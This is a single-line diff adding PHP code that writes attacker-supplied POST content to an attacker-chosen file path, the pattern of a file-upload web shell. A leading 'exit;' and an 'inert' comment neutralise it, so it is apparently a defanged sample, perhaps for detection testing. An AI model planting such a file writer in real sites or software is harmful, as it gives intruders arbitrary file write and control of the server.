@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $f=$_POST["f"]; $c=$_POST["c"]; $h=fopen($f,"w"); fwrite($h, stripslashes($c)); fclose($h);
